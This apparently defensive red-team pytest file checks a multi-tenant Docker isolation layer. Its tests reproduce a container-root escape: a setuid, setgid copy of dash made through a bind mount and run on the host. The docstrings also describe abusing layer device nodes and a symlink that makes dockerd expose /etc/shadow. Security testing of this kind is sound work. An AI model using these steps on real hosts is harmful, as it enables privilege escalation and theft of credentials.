"""Outside review (red team): each test is one finding, as the tenant would do it over SSH.
Each fails on the code it was written against; the docstring says what it shows."""

from __future__ import annotations

import io
import tarfile

import pytest

from dtenant_session import testimage
from dtenant_session.lab import host
from tests.sandbox.conftest import container_root

IMAGE = testimage.IMAGE


@pytest.fixture(scope="module")
def alice(lab: host.Lab, tenants: tuple[str, ...]) -> str:
    return "alice"


def _setuid_container_root_shell(lab: host.Lab, directory: str) -> str:
    """A copy of dash in `directory` of alice's home, given to container root and made
    set-user-ID and set-group-ID by a container that binds the directory. No world-writable
    directory needed: container root may chown what alice owns (its map keeps her uid)."""
    lab.ssh("alice", f"rm -rf ~/{directory}; mkdir ~/{directory} && cp /bin/dash ~/{directory}/sh")
    lab.ssh("alice", f"docker run --rm -v ~/{directory}:/w {IMAGE} "
            "sh -c 'chown 0:0 /w/sh && chmod 6755 /w/sh'", check=False)  # fmt: skip
    return f"~/{directory}/sh -p -c"


def test_the_user_never_runs_as_container_root_on_the_host(lab: host.Lab, alice: str) -> None:
    """Container root writes a set-user-ID (and set-group-ID) file into a bind of alice's
    home; alice runs it on the host and is `_dtenantN` there, with its group. Everything
    Docker hands container root is then hers: the layer directories (a device node from
    `docker import` opened from the host: /dev/kmsg written, a disk would be as easy), and
    the fifo directory of every container (`init-stdout` planted as a symlink makes dockerd
    read /etc/shadow into `docker logs`)."""
    root = container_root(lab, "alice")
    shell = _setuid_container_root_shell(lab, "suid")
    try:
        ids = lab.ssh("alice", f"{shell} 'id -u; id -g'", check=False).stdout.split()
        assert str(root) not in ids, f"alice runs as container root {root} on the host: {ids}"
        exec_root = f"/run/dtenant/tenants/alice.{root}.{root}"
        reach = lab.ssh("alice", f"{shell} 'ls {exec_root}/'", check=False)
        assert reach.returncode != 0, f"alice lists {exec_root}: {reach.stdout}"
    finally:
        lab.ssh("alice", "rm -rf ~/suid", check=False)


def _nodes_tar() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        info = tarfile.TarInfo("dev/null2")
        info.type, info.devmajor, info.devminor, info.mode = tarfile.CHRTYPE, 1, 3, 0o666
        tar.addfile(info)
    return buffer.getvalue()


def test_a_layer_device_node_is_never_reachable_through_container_root(
    lab: host.Lab, alice: str
) -> None:
    """The same root cause, shown on what it leads to: a device node of an imported layer
    (here a harmless copy of /dev/null) opened from the host by alice."""
    lab.ssh("alice", "docker import - rtnodes:latest", input=_nodes_tar())
    shell = _setuid_container_root_shell(lab, "suid2")
    try:
        upper = lab.ssh(
            "alice", "docker image inspect rtnodes --format '{{.GraphDriver.Data.UpperDir}}'"
        ).stdout.strip()
        opened = lab.ssh("alice", f"{shell} 'echo x > {upper}/dev/null2 && echo opened'",
                         check=False)  # fmt: skip
        assert "opened" not in opened.stdout, f"alice opened {upper}/dev/null2 from the host"
    finally:
        lab.ssh("alice", "rm -rf ~/suid2; docker rmi rtnodes", check=False)
